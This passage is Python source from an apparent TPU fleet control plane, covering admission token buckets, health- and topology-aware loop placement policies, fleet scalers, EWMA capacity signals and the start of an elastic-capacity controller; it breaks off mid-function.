                gate = self._workers.get(worker_id)
                if gate is None or gate.epoch != epoch:
                    return
                # dispatch->release wall: the launch latency the SLO
                # scaling law and retry_after estimates divide by
                gate.launch_ewma_s = (
                    held_s if gate.launch_ewma_s <= 0 else
                    gate.launch_ewma_s + LAUNCH_EWMA_ALPHA
                    * (held_s - gate.launch_ewma_s))
                gate.inflight = max(0, gate.inflight - 1)
                held = gate.inflight_by_tenant.get(tenant, 0)
                if held > 1:
                    gate.inflight_by_tenant[tenant] = held - 1
                else:
                    gate.inflight_by_tenant.pop(tenant, None)
                share = self._tenant(tenant)
                share.inflight = max(0, share.inflight - 1)
                _INFLIGHT.labels(worker_id).set(gate.inflight)
                self._pump_locked(dispatches)
            self._run_dispatches(dispatches)

        return release

    # ----------------------------------------------------- capacity seams

    def set_worker_capacity(self, worker_id: str, capacity: int) -> None:
        """Scale one worker's token bucket (the elastic-capacity
        controller's SLO loop; docs/elastic-capacity.md).  Raising the
        cap pumps immediately so queued launches take the new tokens;
        lowering never revokes outstanding ones -- in-flight launches
        drain naturally and the bucket settles at the new cap."""
        dispatches: list[AdmissionTicket] = []
        with self._lock:
            gate = self._gate(worker_id)
            gate.capacity = max(1, int(capacity))
            self._pump_locked(dispatches)
        self._run_dispatches(dispatches)

    def set_shed(self, worker_id: str, retry_after_s: float) -> None:
        """Flip one worker's bounded queue into reject-with-retry-after
        (``retry_after_s > 0``) or back to normal queueing (``0``).
        While shedding, a submission that would QUEUE is rejected with
        the given backoff; one a free token can dispatch immediately is
        still admitted -- the SLO is unattainable for the QUEUE, not
        for work that starts now."""
        with self._lock:
            self._gate(worker_id).shed_retry_after_s = max(
                0.0, float(retry_after_s))

    def launch_latency_s(self, worker_id: str) -> float:
        """The measured dispatch->release launch latency EWMA."""
        with self._lock:
            gate = self._workers.get(worker_id)
            return gate.launch_ewma_s if gate is not None else 0.0

    # ----------------------------------------------------------- lifecycle

    def reset_worker(self, worker_id: str) -> None:
        """The worker's breaker opened: its lane is retired and admitted
        launches there will strand.  Zero the token bucket (epoch bump
        invalidates outstanding releases) and sweep now-stale pending
        tickets; non-stale ones stay queued for the worker's recovery."""
        dispatches: list[AdmissionTicket] = []
        with self._lock:
            gate = self._workers.get(worker_id)
            if gate is None:
                return
            gate.epoch += 1
            # the stranded launches' tenants get their in-flight slots
            # back now (their epoch-stale releases will no-op), or the
            # per-tenant cap would starve them on the healthy workers
            for t, held in gate.inflight_by_tenant.items():
                share = self._tenant(t)
                share.inflight = max(0, share.inflight - held)
            gate.inflight_by_tenant.clear()
            gate.inflight = 0
            _INFLIGHT.labels(worker_id).set(0)
            self._pump_locked(dispatches)   # sweeps cancelled tickets too
        self._run_dispatches(dispatches)

    def sweep(self) -> None:
        """Drop cancelled pending tickets and dispatch anything
        unblocked (run-loop tick hygiene: a stopped run's queue must
        melt even if no token ever releases again)."""
        dispatches: list[AdmissionTicket] = []
        with self._lock:
            self._pump_locked(dispatches)
        self._run_dispatches(dispatches)

    # ----------------------------------------------------------------- view

    def queue_depth(self, tenant: str | None = None) -> int:
        with self._lock:
            if tenant is not None:
                share = self._tenants.get(tenant)
                return share.queued if share is not None else 0
            return sum(len(g.pending) for g in self._workers.values())

    def stats(self) -> dict:
        """Snapshot for ``clawker fleet placement`` / tests."""
        with self._lock:
            return {
                "max_inflight_per_worker": self.max_inflight,
                "max_pending_per_worker": self.max_pending,
                "workers": {
                    wid: {
                        "inflight": g.inflight,
                        "inflight_hwm": g.inflight_hwm,
                        "capacity": g.capacity,
                        "pending": len(g.pending),
                        "dispatched": g.dispatched,
                        "rejected": g.rejected,
                        "launch_ewma_ms": round(g.launch_ewma_s * 1000, 2),
                        "shed_retry_after_s": round(
                            g.shed_retry_after_s, 3),
                    } for wid, g in sorted(self._workers.items())
                },
                "tenants": {
                    t: {
                        "weight": s.weight,
                        "max_inflight": s.max_inflight,
                        "inflight": s.inflight,
                        "inflight_hwm": s.inflight_hwm,
                        "queued": s.queued,
                        "dispatched": s.dispatched,
                        "rejected": s.rejected,
                        "cancelled": s.cancelled,
                    } for t, s in sorted(self._tenants.items())
                },
            }
