"""Placement policies: which worker each loop slot lands on.

The old ``place()`` in ``loop/scheduler.py`` was a ~10-line round-robin
with no notion of health or topology.  Policies here all see one
:class:`PlacementContext` and share three invariants:

- **Breaker-aware.**  A worker whose circuit breaker is OPEN or
  HALF-OPEN never receives a placement -- open means the daemon is
  quarantined, half-open means it is mid-trial and one flap would
  bounce the loop right back (the same stance as
  ``HealthMonitor.pick_target``).
- **Latency-weighted.**  Slot shares rebalance by recent probe latency:
  a slow-but-alive worker (overloaded daemon, congested SSH path) gets
  proportionally fewer slots than a fast one.  Unknown latency reads as
  the fleet median, so a fresh fleet degrades to equal shares.
- **Graceful degradation.**  ``topology`` with no known topology (fake
  pods, single hosts, unparseable accelerator) falls back to ``spread``
  semantics rather than failing the run.

Policies:

- ``spread`` (default): weighted round-robin across eligible workers in
  TPU worker order -- the PR-1 shape, now health/latency-aware.
- ``pack``: fill the first eligible worker (single-worker debugging).
- ``topology``: prefer pod-local ICI groups -- place the run's loops
  onto as few ICI-adjacent worker groups as possible (ICI carries the
  collective traffic; co-scheduled loops that share a group share the
  fast interconnect) while still respecting each worker's fair-share
  cap; migration targets prefer the ICI-closest healthy worker.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from .. import logsetup, telemetry
from ..engine.drivers import Worker
from ..errors import ClawkerError
from ..fleet.inventory import WorkerTopology
from ..health import BREAKER_CLOSED

log = logsetup.get("placement.policy")

# docs/loop-placement.md: one increment per placement decision that
# landed (initial slot, migration target, resume re-placement)
_DECISIONS = telemetry.counter(
    "placement_decisions_total", "Placement decisions by policy and worker",
    labels=("policy", "worker"))


def note_decision(policy: str, worker_id: str, n: int = 1) -> None:
    _DECISIONS.labels(policy, worker_id).inc(n)


@dataclass
class PlacementContext:
    """Everything a policy may consult.  Built fresh per decision by the
    scheduler so breaker states and latencies are live, never snapshots.

    ``breaker_state`` / ``latency_s`` default to closed / 0.0 so a
    context built before any health monitor exists still places.
    """

    workers: list[Worker] = field(default_factory=list)
    breaker_state: Callable[[str], str] = lambda wid: BREAKER_CLOSED
    latency_s: Callable[[str], float] = lambda wid: 0.0
    load: dict[str, int] = field(default_factory=dict)
    topology: WorkerTopology | None = None

    def eligible(self, exclude: set[str] | None = None) -> list[Worker]:
        """Workers that may receive placements: breaker CLOSED (open and
        half-open both excluded), engine connected, not excluded."""
        exclude = exclude or set()
        return [w for w in self.workers
                if w.id not in exclude
                and w.engine is not None
                and self.breaker_state(w.id) == BREAKER_CLOSED]

    def plan_pool(self) -> list[Worker]:
        """Workers ``plan`` may use: the eligible set, falling back to
        EVERY connected worker when no breaker reads closed -- a fully
        dead or not-yet-probed fleet still places, the loops strand into
        the breaker/failover machinery, and --orphan-grace bounds the
        run (the pre-placement stance failover has always assumed).
        ``pick`` deliberately has no such fallback: re-placements onto
        known-dead workers would just churn strand->rescue cycles."""
        elig = self.eligible()
        if elig:
            return elig
        return [w for w in self.workers if w.engine is not None] or list(
            self.workers)

    def weight(self, worker_id: str) -> float:
        """Relative slot share for one worker: inverse recent probe
        latency, normalized so unknown latency (0.0) reads as 1.0.
        Sub-millisecond probes are measurement noise (in-process fakes,
        loopback daemons), not a load signal -- they all read 1.0."""
        lat = self.latency_s(worker_id)
        if lat <= 0.001:
            return 1.0
        sampled = [self.latency_s(w.id) for w in self.workers]
        sampled = [s for s in sampled if s > 0.001]
        ref = sorted(sampled)[len(sampled) // 2] if sampled else lat
        if ref <= 0.0:
            return 1.0
        # a worker at the median gets weight 1; 2x the median latency
        # halves its share; floor keeps a slow worker reachable, ceiling
        # keeps one fast worker from absorbing the whole plan (spread
        # must stay spread under latency skew)
        return max(0.1, min(10.0, ref / lat))


def _weighted_order(ctx: PlacementContext, workers: list[Worker],
                    n: int, cap: int | None = None) -> list[Worker]:
    """n slots over ``workers`` by smooth weighted round-robin
    (nginx-style): deterministic, interleaved, and proportional to
    ctx.weight.  Equal weights degrade to plain round-robin in worker
    order -- the exact PR-1 ``spread`` behavior.  With ``cap``, no
    worker receives more than cap slots: weighting biases ORDER and
    share, but a hard per-worker ceiling stays a ceiling (a fast worker
    among slow row-mates must not absorb their whole group)."""
    if not workers:
        return []
    current = {w.id: 0.0 for w in workers}
    weights = {w.id: ctx.weight(w.id) for w in workers}
    counts = {w.id: 0 for w in workers}
    active = list(workers)
    out: list[Worker] = []
    while len(out) < n and active:
        total = sum(weights[w.id] for w in active)
        for w in active:
            current[w.id] += weights[w.id]
        # ties break on pod worker order (max over a list ordered by
        # index returns the first maximal element)
        best = max(active, key=lambda w: current[w.id])
        current[best.id] -= total
        out.append(best)
        counts[best.id] += 1
        if cap is not None and counts[best.id] >= cap:
            active.remove(best)
    return out


class PlacementPolicy:
    """One placement strategy.  ``plan`` maps N loop slots onto workers
    at run start; ``pick`` chooses a single target for a re-placement
    (migration, resume onto a changed fleet)."""

    name = "abstract"

    def plan(self, ctx: PlacementContext, n: int) -> list[Worker]:
        raise NotImplementedError

    def pick(self, ctx: PlacementContext, *, exclude: set[str] | None = None,
             near: Worker | None = None) -> Worker | None:
        """Least-loaded eligible worker, latency-weighted; ``near`` is
        the previous placement (policies that understand locality prefer
        its neighborhood).  None when no eligible worker exists."""
        candidates = ctx.eligible(exclude)
        if not candidates:
            return None
        return min(candidates, key=lambda w: (
            ctx.load.get(w.id, 0) / ctx.weight(w.id), w.index))


class SpreadPolicy(PlacementPolicy):
    name = "spread"

    def plan(self, ctx: PlacementContext, n: int) -> list[Worker]:
        workers = ctx.plan_pool()
        if not workers:
            raise ClawkerError("placement: no workers available")
        return _weighted_order(ctx, workers, n)


class PackPolicy(PlacementPolicy):
    name = "pack"

    def plan(self, ctx: PlacementContext, n: int) -> list[Worker]:
        workers = ctx.plan_pool()
        if not workers:
            raise ClawkerError("placement: no workers available")
        return [workers[0]] * n

    def pick(self, ctx: PlacementContext, *, exclude: set[str] | None = None,
             near: Worker | None = None) -> Worker | None:
        candidates = ctx.eligible(exclude)
        return candidates[0] if candidates else None


class TopologyPolicy(PlacementPolicy):
    """Prefer pod-local ICI groups; spread within the chosen groups.

    The pod's ICI mesh is fastest between co-located workers (same
    board/host group).  ``plan`` packs the run into as FEW groups as
    possible -- groups chosen healthiest-first (most eligible members),
    slots spread latency-weighted within each group -- while capping any
    worker at its fair share ``ceil(n / eligible)``, so group locality
    never turns into worker 0 melting.  Unknown topology falls back to
    ``spread`` semantics (graceful: fake pods and plain hosts have no
    coordinates).
    """

    name = "topology"

    def plan(self, ctx: PlacementContext, n: int) -> list[Worker]:
        workers = ctx.plan_pool()
        if not workers:
            raise ClawkerError("placement: no workers available")
        topo = ctx.topology
        if topo is None or not topo.known:
            log.info("topology unknown: falling back to spread placement")
            return _weighted_order(ctx, workers, n)
        cap = -(-n // len(workers))     # ceil: per-worker fair share
        by_group: dict[int, list[Worker]] = {}
        for w in workers:
            by_group.setdefault(topo.group_of(w.index), []).append(w)
        # healthiest-first: the largest eligible group is the biggest
        # intact ICI domain; ties break on group id (pod order)
        groups = sorted(by_group.items(), key=lambda kv: (-len(kv[1]), kv[0]))
        out: list[Worker] = []
        for _gid, members in groups:
            if len(out) >= n:
                break
            take = min(n - len(out), cap * len(members))
            out.extend(_weighted_order(ctx, members, take, cap=cap))
        # more slots than cap * workers can hold (cap rounding on tiny
        # fleets): wrap around rather than under-place
        while len(out) < n:
            out.extend(_weighted_order(ctx, workers, n - len(out)))
        return out[:n]

    def pick(self, ctx: PlacementContext, *, exclude: set[str] | None = None,
             near: Worker | None = None) -> Worker | None:
        candidates = ctx.eligible(exclude)
        if not candidates:
            return None
        topo = ctx.topology
        if topo is None or not topo.known or near is None:
            return super().pick(ctx, exclude=exclude, near=near)
        return min(candidates, key=lambda w: (
            topo.distance(near.index, w.index),
            ctx.load.get(w.id, 0) / ctx.weight(w.id),
            w.index))


class PodPolicy(TopologyPolicy):
    """The POD tier of two-level placement (docs/federation.md).

    The federation router builds a :class:`PlacementContext` whose
    "workers" are pod stand-ins (one Worker per pod: id = pod name,
    index = pod index, load = live run slots, latency = measured status
    RTT, breaker = pod health from its status RPC) and whose topology
    is :func:`~clawker_tpu.fleet.inventory.federation_topology` -- so
    the exact locality machinery that packs loops onto ICI-adjacent
    workers packs runs onto DCN-adjacent pods, one level up.  Intra-pod
    placement stays with each pod's own policy, untouched.

    Deliberately NOT in :data:`PLACEMENT_POLICIES`: loop specs name
    intra-pod policies only; the pod tier is the router's, not a spec
    field.
    """

    name = "pod"


PLACEMENT_POLICIES: dict[str, type[PlacementPolicy]] = {
    "spread": SpreadPolicy,
    "pack": PackPolicy,
    "topology": TopologyPolicy,
}


def get_policy(name: str) -> PlacementPolicy:
    cls = PLACEMENT_POLICIES.get(name)
    if cls is None:
        raise ClawkerError(
            f"placement: unknown policy {name!r} "
            f"({'|'.join(sorted(PLACEMENT_POLICIES))})")
    return cls()
