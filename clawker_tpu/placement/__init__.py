"""Pod-scale placement & admission: where loops land and how fast they launch.

The fleet control plane's placement brain, split out of the loop
scheduler (docs/loop-placement.md):

- :mod:`.policy` -- pluggable :class:`PlacementPolicy` engine
  (``spread`` / ``pack`` / ``topology``).  Policies see one
  :class:`PlacementContext`: the live worker set, each worker's circuit
  breaker state (open/half-open workers NEVER receive placements),
  recent probe latency (slow-but-alive workers get fewer slots), the
  current per-worker load, and -- for ``topology`` -- the pod's ICI
  layout from :mod:`clawker_tpu.fleet.inventory`.
- :mod:`.admission` -- per-worker :class:`AdmissionController`: a token
  bucket bounding concurrent in-flight create/start work per worker
  plus a bounded pending queue, so a 64-loop burst drains at each
  daemon's sustainable rate instead of wedging its lane.  Pending
  launches are dequeued by weighted fair queueing across tenants with
  per-tenant max-in-flight caps: two runs sharing a pod cannot starve
  each other.

These two interfaces are the seam the planned agentd-resident
supervision split needs: a worker-resident supervisor implements the
same submit/release and plan/pick contracts, and the CLI becomes a thin
client of them.
"""

from .admission import (
    ADMISSION_DISPATCHED,
    ADMISSION_QUEUED,
    ADMISSION_REJECTED,
    AdmissionController,
    AdmissionOutcome,
    AdmissionTicket,
)
from .policy import (
    PLACEMENT_POLICIES,
    PlacementContext,
    PlacementPolicy,
    PodPolicy,
    get_policy,
    note_decision,
)

__all__ = [
    "ADMISSION_DISPATCHED", "ADMISSION_QUEUED", "ADMISSION_REJECTED",
    "AdmissionController", "AdmissionOutcome", "AdmissionTicket",
    "PLACEMENT_POLICIES", "PlacementContext", "PlacementPolicy",
    "PodPolicy", "get_policy", "note_decision",
]
