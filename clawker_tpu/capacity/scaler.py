"""Fleet scalers: how a capacity decision becomes workers.

The controller decides *when* to grow or shrink the fleet; a
:class:`FleetScaler` owns *how*.  Three implementations:

- :class:`NullScaler` -- the default: decisions are journaled and
  emitted but touch nothing (observe-only autoscale, the safe default
  for settings ``capacity.autoscale.enable: false`` paths that still
  want the signals).
- :class:`FakeFleetScaler` -- grows/shrinks a
  :class:`~clawker_tpu.engine.drivers.FakeDriver` pod in place (tests,
  chaos, the elastic bench).
- :class:`TPUVMScaler` -- provisions standby ``tpu_vm`` hosts through
  the concurrent fleet provisioner (fleet/provision.py): one payload
  tar shared by all, per-worker streams, the PR-1 machinery unchanged.

Every scaler call happens AFTER the controller journaled the decision
durable (WAL-before-mutation: a crash between the record and the
provision replays as an intent the next generation re-audits, never as
an untracked worker).
"""

from __future__ import annotations

from .. import logsetup

log = logsetup.get("capacity.scaler")


def make_scaler(driver, cfg, *, max_workers: int) -> "FleetScaler":
    """The one scaler-selection rule both wiring layers (loopd and the
    in-process CLI path) share: an elastically growable fake pod gets
    the in-place scaler, ``tpu_vm`` gets the concurrent provisioner,
    anything else degrades to decisions-without-side-effects."""
    if hasattr(driver, "add_worker"):
        return FakeFleetScaler(driver, max_workers=max_workers)
    if getattr(driver, "name", "") == "tpu_vm":
        return TPUVMScaler(cfg)
    return NullScaler()


class FleetScaler:
    """Interface: provision ``n`` workers / drain one by id."""

    def provision(self, n: int) -> list[str]:
        """Bring up ``n`` workers; returns the new worker ids (possibly
        fewer than asked -- a scaler out of standby capacity returns
        what it could)."""
        raise NotImplementedError

    def drain(self, worker_id: str) -> bool:
        """Tear one worker down.  Only called once the controller's
        journal-replay gate proved zero live placements on it."""
        raise NotImplementedError


class NullScaler(FleetScaler):
    """Decisions without side effects; keeps an audit trail."""

    def __init__(self):
        self.provisioned: list[int] = []
        self.drained: list[str] = []

    def provision(self, n: int) -> list[str]:
        self.provisioned.append(int(n))
        return []

    def drain(self, worker_id: str) -> bool:
        self.drained.append(worker_id)
        return True


class FakeFleetScaler(FleetScaler):
    """Scale a FakeDriver pod in place (tests / chaos / bench)."""

    def __init__(self, driver, *, max_workers: int = 16):
        self.driver = driver
        self.max_workers = int(max_workers)
        self.provisioned: list[str] = []
        self.drained: list[str] = []

    def provision(self, n: int) -> list[str]:
        out: list[str] = []
        for _ in range(max(0, int(n))):
            if len(self.driver.workers()) >= self.max_workers:
                break
            worker = self.driver.add_worker()
            out.append(worker.id)
        self.provisioned.extend(out)
        return out

    def drain(self, worker_id: str) -> bool:
        ok = self.driver.remove_worker(worker_id)
        if ok:
            self.drained.append(worker_id)
        return ok


class TPUVMScaler(FleetScaler):
    """Provision/drain ``tpu_vm`` standby hosts via the concurrent
    provisioner.

    ``standby_hosts`` are hosts present in the pod but not yet serving
    (``runtime.tpu.workers`` beyond the active set): ``provision``
    installs the worker stack on the next ``n`` of them concurrently
    (fleet/provision.py -- one shared payload tar, streamed steps).
    ``drain`` has no remote teardown: the engine-side drain (pool
    members removed, lane retired) is the scheduler's, gated by the
    controller; the VM just stops receiving placements.
    """

    def __init__(self, cfg, *, with_firewall: bool = True,
                 with_cp: bool = True):
        self.cfg = cfg
        self.with_firewall = with_firewall
        self.with_cp = with_cp
        self._active: set[str] = set()
        self.provisioned: list[str] = []
        self.drained: list[str] = []

    def _standby(self) -> list[str]:
        from ..fleet.inventory import discover_workers

        hosts = discover_workers(self.cfg.settings.runtime.tpu)
        return [h for h in hosts if h not in self._active]

    def provision(self, n: int) -> list[str]:
        from pathlib import Path

        from ..fleet.provision import provision_fleet
        from ..fleet.transport import SSHTransport

        tpu = self.cfg.settings.runtime.tpu
        targets = self._standby()[:max(0, int(n))]
        if not targets:
            return []
        transports = [
            SSHTransport(tpu, h, i, mux_dir=self.cfg.ssh_mux_dir)
            for i, h in enumerate(targets)]
        repo_root = Path(__file__).resolve().parents[2]
        reports = provision_fleet(
            transports, repo_root, with_firewall=self.with_firewall,
            with_cp=self.with_cp,
            monitor=self.cfg.settings.monitoring.enable)
        out = [r.host for r in reports if r.ok]
        self._active.update(out)
        self.provisioned.extend(out)
        for r in reports:
            if not r.ok:
                log.warning("capacity provision of %s failed", r.host)
        return out

    def drain(self, worker_id: str) -> bool:
        self._active.discard(worker_id)
        self.drained.append(worker_id)
        return True
