"""Telemetry-derived capacity signals: rate estimation + registry deltas.

The controller never instruments the hot path itself -- the scheduler,
warm pool, and admission controller already record into the process
:data:`~clawker_tpu.telemetry.REGISTRY` (warm_pool_{hits,misses}_total,
placement_admission_wait_seconds, ...).  :class:`RegistrySampler`
diff-samples those cumulative series per controller tick, and
:class:`EwmaRate` turns the per-tick deltas into a smoothed arrival
rate.

The rate EWMA is deliberately asymmetric: a burst must grow capacity
within a tick or two (``alpha_up``), while the decay back to the quiet
baseline is slow (``alpha_down``) so a bursty trace's SECOND burst
finds the pools already sized -- shrinking eagerly would re-pay every
burst's cold misses forever, which is exactly the p99 the elastic bench
gates (bench.py ``elastic_vs_static_p99``).
"""

from __future__ import annotations

from .. import telemetry

DEFAULT_ALPHA_UP = 0.5
DEFAULT_ALPHA_DOWN = 0.08


class EwmaRate:
    """Asymmetric exponentially-weighted rate (events/second).

    ``observe(count, dt)`` folds one tick's event count over ``dt``
    seconds into the estimate: increases blend at ``alpha_up``,
    decreases at ``alpha_down``.  With a constant input rate the
    estimate converges to it from either side (tests/test_capacity.py
    proves convergence and the asymmetry).
    """

    def __init__(self, alpha_up: float = DEFAULT_ALPHA_UP,
                 alpha_down: float = DEFAULT_ALPHA_DOWN):
        self.alpha_up = min(1.0, max(0.0, float(alpha_up)))
        self.alpha_down = min(1.0, max(0.0, float(alpha_down)))
        self.value = 0.0
        self._seen = False

    def observe(self, count: float, dt: float) -> float:
        if dt <= 0:
            return self.value
        rate = max(0.0, float(count)) / dt
        if not self._seen:
            # first sample seeds the estimate: blending against the 0.0
            # prior would under-size the pool for the whole ramp-up
            self._seen = True
            self.value = rate
            return self.value
        alpha = self.alpha_up if rate > self.value else self.alpha_down
        self.value += alpha * (rate - self.value)
        return self.value


class RegistrySampler:
    """Per-tick deltas of cumulative registry series, keyed by label.

    ``delta(metric, label_index)`` returns ``{label_value: increase}``
    since the previous call for that metric -- the first call primes
    the baseline and returns zeros (a controller attached mid-run must
    not read the whole history as one giant burst).  Histogram series
    yield ``(count_delta, sum_delta)`` via :meth:`hist_delta`.
    """

    def __init__(self, registry=None):
        self._registry = registry if registry is not None else telemetry.REGISTRY
        self._last: dict[tuple[str, str], float] = {}
        self._last_hist: dict[tuple[str, str], tuple[float, float]] = {}
        self._primed: set[str] = set()  # metrics sampled at least once:
        #                                 a series BORN after that point
        #                                 is entirely new traffic, not
        #                                 history to be skipped

    def _rows(self, metric: str) -> list[dict]:
        return [r for r in self._registry.snapshot() if r["metric"] == metric]

    def delta(self, metric: str, label: str) -> dict[str, float]:
        out: dict[str, float] = {}
        primed = metric in self._primed
        for row in self._rows(metric):
            key_val = str(row["labels"].get(label, ""))
            key = (metric, key_val)
            prev = self._last.get(key)
            cur = float(row["value"])
            self._last[key] = cur
            if prev is not None:
                # max(0, ...): a registry reset (tests/bench) must read
                # as "no events", never as a negative arrival count
                out[key_val] = max(0.0, cur - prev)
            else:
                out[key_val] = cur if primed else 0.0
        self._primed.add(metric)
        return out

    def hist_delta(self, metric: str, label: str
                   ) -> dict[str, tuple[float, float]]:
        """{label: (observations delta, sum delta)} for a histogram."""
        out: dict[str, tuple[float, float]] = {}
        hkey = f"{metric}#hist"
        primed = hkey in self._primed
        for row in self._rows(metric):
            if row.get("kind") != "histogram":
                continue
            key_val = str(row["labels"].get(label, ""))
            key = (metric, key_val)
            prev = self._last_hist.get(key)
            cur = (float(row["value"]), float(row.get("sum", 0.0)))
            self._last_hist[key] = cur
            if prev is not None:
                out[key_val] = (max(0.0, cur[0] - prev[0]),
                                max(0.0, cur[1] - prev[1]))
            else:
                out[key_val] = cur if primed else (0.0, 0.0)
        self._primed.add(hkey)
        return out
