"""The elastic-capacity controller: three coupled control loops.

One :class:`CapacityController` ticks periodically (inside loopd, or on
the scheduler's run thread for ``--no-daemon`` runs) and closes the
loop from observed telemetry to every capacity knob that used to be a
static setting:

1. **Adaptive warm-pool sizing.**  Per-worker target depth derived from
   the EWMA arrival rate (``warm_pool_{hits,misses}_total`` deltas) and
   miss pressure, clamped to ``[pool_min_depth, pool_max_depth]`` and
   fed to the scheduler's :class:`~clawker_tpu.loop.WarmPool` through
   the ``set_pool_target`` hook -- refills still ride admission under
   the ``~warmpool`` tenant, exactly as before.
2. **SLO-aware admission.**  Each worker's token bucket scales from the
   measured launch latency against the tightest configured tenant SLO
   (:func:`tokens_for` -- the pure, monotone scaling law).  When the
   SLO is provably unattainable even at ``token_max`` -- the queue
   cannot drain inside the SLO -- the bounded queue flips to
   reject-with-``retry_after_s`` (the ``set_shed`` hook) instead of
   queueing work that is already late.
3. **Fleet autoscale.**  Sustained queue depth past
   ``autoscale.queue_high`` provisions workers through the
   :class:`~.scaler.FleetScaler`; sustained idle capacity under
   ``autoscale.idle_low`` drains the least-loaded worker -- gated on
   the wiring layer's journal-replay proof that ZERO live placements
   (loops or pool members) sit on the victim.  A journaled run is never
   stranded by scale-down; the chaos ``stranded-by-drain`` invariant
   audits exactly this.

Every decision is journaled as a ``REC_CAPACITY_*`` record through the
``journal`` hook (write-ahead for scaler mutations) and emitted as a
typed ``capacity.decision`` bus event, so ``--resume`` restores the
controller's targets and the fleet console can replay the decisions.

Layering: rank 2 -- the controller imports placement-layer peers only
and reaches the scheduler exclusively through :class:`CapacityHooks`.
"""

from __future__ import annotations

import math
import threading
import time
from dataclasses import dataclass, field
from typing import Callable

from .. import logsetup, telemetry
from ..monitor.events import CapacityDecisionEvent
from .scaler import FleetScaler
from .signals import EwmaRate, RegistrySampler

log = logsetup.get("capacity.controller")

# journal record kinds (loop/journal.py replays them into RunImage.capacity)
REC_CAPACITY_POOL = "capacity_pool"      # adaptive pool target changed
REC_CAPACITY_TOKENS = "capacity_tokens"  # SLO-scaled token cap changed
REC_CAPACITY_QUEUE = "capacity_queue"    # queue mode flip (reject|queue)
REC_CAPACITY_SCALE = "capacity_scale"    # fleet provision/drain decision

_POOL_TARGET = telemetry.gauge(
    "capacity_pool_target",
    "Adaptive warm-pool target depth per worker", labels=("worker",))
_TOKEN_CAP = telemetry.gauge(
    "capacity_token_cap",
    "SLO-scaled admission token cap per worker", labels=("worker",))
_ARRIVAL_RATE = telemetry.gauge(
    "capacity_arrival_rate",
    "EWMA placement arrival rate per worker (1/s)", labels=("worker",))
_SLO_HEADROOM = telemetry.gauge(
    "capacity_slo_headroom_seconds",
    "Tenant latency SLO minus the worst predicted admission wait",
    labels=("tenant",))
_SHED_RETRY = telemetry.gauge(
    "capacity_shed_retry_after_seconds",
    "retry_after_s the shed queue mode currently hands rejected "
    "submissions (0 = queueing normally)", labels=("worker",))
_DECISIONS = telemetry.counter(
    "capacity_decisions_total",
    "Capacity-controller decisions applied", labels=("kind",))
_FLEET_WORKERS = telemetry.gauge(
    "capacity_fleet_workers", "Workers the capacity controller governs")

MIN_RETRY_AFTER_S = 0.05
SHED_OVERSHOOT = 1.5        # drain time must exceed SLO by this factor
#                             before the queue flips to reject -- and
#                             fall back UNDER the SLO to flip back
#                             (hysteresis: the boundary must not flap)
FALLBACK_LEAD_S = 0.05      # refill lead before any latency was measured
TOKEN_DECAY_PERIOD_S = 0.25  # one token of cap decays per period once
#                             the measured wait is comfortably inside
#                             the SLO: caps ratchet up fast under
#                             pressure (a burst cannot wait for an
#                             EWMA) and bleed off slowly, so the NEXT
#                             burst finds the bucket still sized


def tokens_for(queued: int, inflight: int, launch_s: float, slo_s: float,
               lo: int, hi: int) -> tuple[int, float]:
    """The SLO token-scaling law: ``(cap, predicted_drain_s)``.

    The backlog needs ``(queued + inflight) * launch_s`` seconds of
    launch work; meeting a latency SLO of ``slo_s`` needs at least
    ``work / slo_s`` tokens draining it in parallel.  The cap is that
    requirement clamped to ``[lo, hi]`` (``lo`` is the static bucket --
    SLO scaling grows buckets, it never starves a worker below its
    configured default).  Monotone by construction: non-decreasing in
    ``queued``/``inflight``/``launch_s``, non-increasing in ``slo_s``
    (tests/test_capacity.py sweeps the grid).
    """
    lo = max(1, int(lo))
    hi = max(lo, int(hi))
    work = max(0, int(queued) + int(inflight)) * max(0.0, launch_s)
    if slo_s <= 0 or launch_s <= 0:
        return lo, 0.0
    need = math.ceil(work / slo_s) if work > 0 else 0
    cap = min(hi, max(lo, need))
    return cap, work / cap


def _synced(rcpt) -> bool:
    """Durability verdict of a ``hooks.journal(...)`` result (duck-typed
    so this layer never imports loop.journal: a real AppendReceipt
    answers with its ``synced`` bit, ``None`` means no WAL is wired and
    there is no contract to break)."""
    return rcpt is None or bool(getattr(rcpt, "synced", True))


@dataclass
class CapacityHooks:
    """The scheduler/loopd seam: every surface the controller may act
    on, as callables over the wiring layer's own objects.  The
    controller holds no scheduler, engine, or CLI reference."""

    workers: Callable[[], list[str]]
    admission_stats: Callable[[], dict]
    set_token_cap: Callable[[str, int], None]
    set_shed: Callable[[str, float], None]          # retry_after_s; 0 clears
    pool_stats: Callable[[], dict] | None = None
    set_pool_target: Callable[[str, int], None] | None = None
    # journal-replay drain gate: live placements (loops + pool members)
    # on a worker according to the run journal(s) -- the wiring layer
    # implements it by replaying, so a drain can never outrun the WAL
    live_placements: Callable[[str], int] | None = None
    # returns the wiring layer's AppendReceipt (or None when no WAL is
    # wired) -- durable call sites consume it via _synced() below
    journal: Callable[..., object] = field(
        default=lambda kind, **fields: None)
    emit: Callable[[CapacityDecisionEvent], None] = field(
        default=lambda ev: None)


class CapacityController:
    """Periodic elastic-capacity tick over a :class:`CapacityHooks`."""

    def __init__(self, settings=None, *, hooks: CapacityHooks | None = None,
                 scaler: FleetScaler | None = None, clock=time.monotonic,
                 registry=None):
        if settings is None:
            from ..config.schema import CapacitySettings

            settings = CapacitySettings()
        self.settings = settings
        self.hooks = hooks
        self.scaler = scaler
        self._clock = clock
        self._sampler = RegistrySampler(registry)
        self._lock = threading.Lock()
        self._last_tick = 0.0
        self._rates: dict[str, EwmaRate] = {}
        self.pool_targets: dict[str, int] = {}
        self.token_caps: dict[str, int] = {}
        self.shedding: dict[str, float] = {}    # worker -> retry_after_s
        self.headroom: dict[str, float] = {}    # tenant -> slo headroom s
        self._queue_high_since: float | None = None
        self._idle_since: float | None = None
        self._last_decay: dict[str, float] = {}
        self._pending_drain: list[str] = []
        self._drain_blocked: dict[str, int] = {}
        self.drained: list[str] = []
        self.provisioned: list[str] = []
        self.ticks = 0

    def bind(self, hooks: CapacityHooks) -> None:
        self.hooks = hooks

    # ------------------------------------------------------------- decisions

    def _decide(self, kind: str, worker: str, value: str,
                reason: str = "") -> None:
        _DECISIONS.labels(kind).inc()
        try:
            self.hooks.emit(CapacityDecisionEvent(kind, worker, value, reason))
        except Exception:       # noqa: BLE001 -- telemetry never raises
            log.exception("capacity decision emit failed")

    # ------------------------------------------------------------------ tick

    def maybe_tick(self, now: float | None = None) -> bool:
